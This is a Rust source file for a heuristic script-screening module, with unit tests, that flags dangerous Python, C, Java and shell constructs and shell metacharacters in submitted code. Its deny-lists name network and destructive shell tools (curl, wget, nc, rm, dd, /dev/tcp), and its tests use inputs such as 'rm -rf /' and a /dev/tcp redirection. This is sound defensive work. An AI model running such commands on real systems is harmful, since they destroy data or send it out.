/// Static security screening of submitted source text and execution commands.
///
/// This is a best-effort heuristic deny-list, not an isolation boundary:
/// pattern matching is inherently bypassable via reflection, dynamic string
/// construction or obfuscated shell syntax. Callers must refuse to persist
/// or execute anything that fails the screen, and must not assume a passing
/// script is actually safe.
use crate::config::RunguardConfig;
use crate::types::Language;
use regex::{Regex, RegexBuilder};

/// Outcome of a screening pass. `safe` is false iff `violations` is
/// non-empty; every violation names the offending construct.
#[derive(Clone, Debug)]
pub struct Verdict {
    pub safe: bool,
    pub violations: Vec<String>,
}

impl Verdict {
    fn from_violations(violations: Vec<String>) -> Self {
        Verdict {
            safe: violations.is_empty(),
            violations,
        }
    }
}

/// Shell metacharacters refused in execution commands.
const DANGEROUS_CHARS: [char; 9] = [';', '&', '|', '`', '$', '>', '<', '*', '?'];

/// Memory-unsafe or process-spawning C/C++ functions.
const C_DANGEROUS_FUNCTIONS: [&str; 8] = [
    "system", "exec\\w*", "popen", "fork", "gets", "strcpy", "strcat", "sprintf",
];

/// C/C++ file-deletion APIs.
const C_FILE_OPERATIONS: [&str; 3] = ["remove", "unlink", "rmdir"];

/// Dangerous Java classes/methods.
const JAVA_PATTERNS: [&str; 5] = [
    r"Runtime\.getRuntime\(\)\.exec",
    r"ProcessBuilder",
    r"System\.exit",
    r"File\.delete",
    r"Files\.delete",
];

/// Destructive or network-reaching shell commands.
const SHELL_DANGEROUS_COMMANDS: [&str; 18] = [
    "rm", "rmdir", "del", "format", "fdisk", "wget", "curl", "nc", "netcat", "ssh", "sudo", "su",
    "chmod", "chown", "mount", "umount", "mkfs", "dd",
];

pub struct ContentScreen {
    max_script_size: usize,
    blocked_commands: Vec<String>,
    blocked_imports: Vec<String>,
    python_import: Regex,
    python_from_import: Regex,
    python_call: Regex,
    python_method_call: Regex,
    c_functions: Vec<(String, Regex)>,
    c_file_ops: Vec<(String, Regex)>,
    java_patterns: Vec<(String, Regex)>,
    shell_commands: Vec<(String, Regex)>,
    shell_network: Vec<Regex>,
    blocked_command_res: Vec<(String, Regex)>,
}

impl ContentScreen {
    pub fn new(config: &RunguardConfig) -> Self {
        let word_call = |name: &str| Regex::new(&format!(r"\b{}\s*\(", name)).unwrap();

        Self {
            max_script_size: config.max_script_size,
            blocked_commands: config.blocked_commands.clone(),
            blocked_imports: config.blocked_imports.clone(),
            python_import: Regex::new(r"^\s*import\s+([A-Za-z_][\w.]*)").unwrap(),
            python_from_import: Regex::new(r"^\s*from\s+([A-Za-z_][\w.]*)\s+import").unwrap(),
            python_call: Regex::new(r"\b(eval|exec|__import__)\s*\(").unwrap(),
            python_method_call: Regex::new(r"\.(system|popen|spawn\w*)\s*\(").unwrap(),
            c_functions: C_DANGEROUS_FUNCTIONS
                .iter()
                .map(|f| (f.trim_end_matches("\\w*").to_string(), word_call(f)))
                .collect(),
            c_file_ops: C_FILE_OPERATIONS
                .iter()
                .map(|f| (f.to_string(), word_call(f)))
                .collect(),
            java_patterns: JAVA_PATTERNS
                .iter()
                .map(|p| (p.to_string(), Regex::new(p).unwrap()))
                .collect(),
            shell_commands: SHELL_DANGEROUS_COMMANDS
                .iter()
                .map(|c| (c.to_string(), Regex::new(&format!(r"\b{}\b", c)).unwrap()))
                .collect(),
            shell_network: vec![
                Regex::new(r">\s*/dev/tcp/").unwrap(),
                Regex::new(r">\s*/dev/udp/").unwrap(),
                Regex::new(r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b").unwrap(),
            ],
            blocked_command_res: config
                .blocked_commands
                .iter()
                .map(|c| {
                    let re = RegexBuilder::new(&format!(r"\b{}\b", regex::escape(c)))
                        .case_insensitive(true)
                        .build()
                        .unwrap();
                    (c.clone(), re)
                })
                .collect(),
        }
    }

    /// Scan submitted source for disallowed constructs. Runs every check
    /// independently and aggregates violations; never fails on malformed
    /// input (malformed input is itself a violation).
    pub fn scan(&self, source: &str, language: Language) -> Verdict {
        let mut violations = Vec::new();

        if source.len() > self.max_script_size {
            violations.push(format!(
                "Script too large ({} > {} bytes)",
                source.len(),
                self.max_script_size
            ));
        }

        match language {
            Language::Python => self.check_python(source, &mut violations),
            Language::C | Language::Cpp => self.check_c_cpp(source, &mut violations),
            Language::Java => self.check_java(source, &mut violations),
            Language::Shell => self.check_shell(source, &mut violations),
            Language::Unknown => {}
        }

        self.check_blocked_commands(source, &mut violations);

        Verdict::from_violations(violations)
    }

    /// Screen an execution command with a conservative deny-list: any shell
    /// metacharacter or blocked-command substring refuses the whole command.
    /// This is deliberately not a shell parser.
    pub fn sanitize_command(&self, command: &str) -> Verdict {
        let mut violations = Vec::new();

        for ch in DANGEROUS_CHARS {
            if command.contains(ch) {
                violations.push(format!("Dangerous character '{}' in command", ch));
            }
        }

        let lowered = command.to_lowercase();
        for blocked in &self.blocked_commands {
            if lowered.contains(&blocked.to_lowercase()) {
                violations.push(format!("Blocked command '{}' in execution command", blocked));
            }
        }

        Verdict::from_violations(violations)
    }

    fn check_python(&self, source: &str, violations: &mut Vec<String>) {
        for line in source.lines() {
            let module = self
                .python_import
                .captures(line)
                .or_else(|| self.python_from_import.captures(line))
                .and_then(|c| c.get(1))
                .map(|m| m.as_str());

            if let Some(module) = module {
                let root = module.split('.').next().unwrap_or(module);
                if self.blocked_imports.iter().any(|b| b == module || b == root) {
                    violations.push(format!("Blocked import: {}", module));
                }
            }
        }

        for cap in self.python_call.captures_iter(source) {
            violations.push(format!("Blocked function call: {}", &cap[1]));
        }
        for cap in self.python_method_call.captures_iter(source) {
            violations.push(format!("Blocked method call: {}", &cap[1]));
        }

        if !brackets_balanced(source) {
            violations.push("Python syntax error".to_string());
        }
    }

    fn check_c_cpp(&self, source: &str, violations: &mut Vec<String>) {
        for (name, re) in &self.c_functions {
            if re.is_match(source) {
                violations.push(format!("Potentially dangerous function: {}", name));
            }
        }
        for (name, re) in &self.c_file_ops {
            if re.is_match(source) {
                violations.push(format!("File deletion operation: {}", name));
            }
        }
    }

    fn check_java(&self, source: &str, violations: &mut Vec<String>) {
        for (pattern, re) in &self.java_patterns {
            if re.is_match(source) {
                violations.push(format!("Potentially dangerous Java operation: {}", pattern));
            }
        }
    }

    fn check_shell(&self, source: &str, violations: &mut Vec<String>) {
        for (name, re) in &self.shell_commands {
            if re.is_match(source) {
                violations.push(format!("Blocked shell command: {}", name));
            }
        }
        // One violation regardless of how many network constructs appear
        if self.shell_network.iter().any(|re| re.is_match(source)) {
            violations.push("Network operation detected".to_string());
        }
    }

    fn check_blocked_commands(&self, source: &str, violations: &mut Vec<String>) {
        for (name, re) in &self.blocked_command_res {
            if re.is_match(source) {
                violations.push(format!("Blocked command detected: {}", name));
            }
        }
    }
}

/// Cheap structural sanity check standing in for a full Python parse:
/// brackets must balance outside of string literals. Catches truncated or
/// mangled submissions before they ever reach an interpreter.
fn brackets_balanced(source: &str) -> bool {
    let mut stack = Vec::new();
    let mut chars = source.chars().peekable();
    let mut in_string: Option<char> = None;

    while let Some(c) = chars.next() {
        if let Some(quote) = in_string {
            if c == '\\' {
                chars.next();
            } else if c == quote {
                in_string = None;
            }
            continue;
        }
        match c {
            '\'' | '"' => in_string = Some(c),
            '#' => {
                // comment runs to end of line
                for c in chars.by_ref() {
                    if c == '\n' {
                        break;
                    }
                }
            }
            '(' | '[' | '{' => stack.push(c),
            ')' => {
                if stack.pop() != Some('(') {
                    return false;
                }
            }
            ']' => {
                if stack.pop() != Some('[') {
                    return false;
                }
            }
            '}' => {
                if stack.pop() != Some('{') {
                    return false;
                }
            }
            _ => {}
        }
    }

    stack.is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::RunguardConfig;

    fn screen() -> ContentScreen {
        ContentScreen::new(&RunguardConfig::default())
    }

    #[test]
    fn clean_python_passes() {
        let verdict = screen().scan("x = 1\nfor i in range(3):\n    x += i\n", Language::Python);
        assert!(verdict.safe, "violations: {:?}", verdict.violations);
    }

    #[test]
    fn blocked_python_import_named_in_violation() {
        let verdict = screen().scan("import subprocess\n", Language::Python);
        assert!(!verdict.safe);
        assert!(verdict.violations.iter().any(|v| v.contains("subprocess")));
    }

    #[test]
    fn python_eval_call_flagged() {
        let verdict = screen().scan("eval(user_data)\n", Language::Python);
        assert!(verdict.violations.iter().any(|v| v.contains("eval")));
    }

    #[test]
    fn python_os_system_attribute_call_flagged() {
        // `import os` is not itself blocked; the .system() call is
        let verdict = screen().scan("import os\nos.system('ls')\n", Language::Python);
        assert!(verdict.violations.iter().any(|v| v.contains("system")));
    }

    #[test]
    fn unbalanced_python_is_violation_not_crash() {
        let verdict = screen().scan("def f(:\n    print((\n", Language::Python);
        assert!(verdict.violations.iter().any(|v| v.contains("syntax")));
    }

    #[test]
    fn size_check_does_not_short_circuit() {
        let mut config = RunguardConfig::default();
        config.max_script_size = 10;
        let screen = ContentScreen::new(&config);
        let verdict = screen.scan("eval(something_long)\n", Language::Python);
        assert!(verdict.violations.iter().any(|v| v.contains("too large")));
        assert!(verdict.violations.iter().any(|v| v.contains("eval")));
    }

    #[test]
    fn c_system_and_strcpy_flagged() {
        let src = "#include <stdlib.h>\nint main(){ system(\"ls\"); strcpy(a,b); }";
        let verdict = screen().scan(src, Language::C);
        assert!(verdict.violations.iter().any(|v| v.contains("system")));
        assert!(verdict.violations.iter().any(|v| v.contains("strcpy")));
    }

    #[test]
    fn c_exec_family_matches_variants() {
        let verdict = screen().scan("int main(){ execve(p, a, e); }", Language::C);
        assert!(verdict.violations.iter().any(|v| v.contains("exec")));
    }

    #[test]
    fn java_process_builder_flagged() {
        let verdict = screen().scan("new ProcessBuilder(\"sh\")", Language::Java);
        assert!(!verdict.safe);
    }

    #[test]
    fn shell_rm_rf_flagged_by_name() {
        let verdict = screen().scan("rm -rf /", Language::Shell);
        assert!(!verdict.safe);
        assert!(verdict.violations.iter().any(|v| v.contains("rm")));
    }

    #[test]
    fn shell_dev_tcp_and_ip_literals_flagged_once() {
        let verdict = screen().scan("cat x > /dev/tcp/10.0.0.1/80", Language::Shell);
        let network: Vec<_> = verdict
            .violations
            .iter()
            .filter(|v| v.contains("Network"))
            .collect();
        assert_eq!(network.len(), 1);
    }

    #[test]
    fn cross_language_blocklist_is_case_insensitive() {
        let verdict = screen().scan("x = \"SUDO make me a sandwich\"", Language::Python);
        assert!(verdict.violations.iter().any(|v| v.contains("sudo")));
    }

    #[test]
    fn sanitize_rejects_every_metacharacter() {
        let screen = screen();
        for ch in DANGEROUS_CHARS {
            let verdict = screen.sanitize_command(&format!("python3 a.py {}", ch));
            assert!(!verdict.safe, "char {:?} should be rejected", ch);
        }
    }

    #[test]
    fn sanitize_rejects_blocked_substring() {
        let verdict = screen().sanitize_command("WGET http://example.com");
        assert!(!verdict.safe);
    }

    #[test]
    fn sanitize_accepts_plain_command() {
        let verdict = screen().sanitize_command("python3 script.py --count 3");
        assert!(verdict.safe, "violations: {:?}", verdict.violations);
    }
}
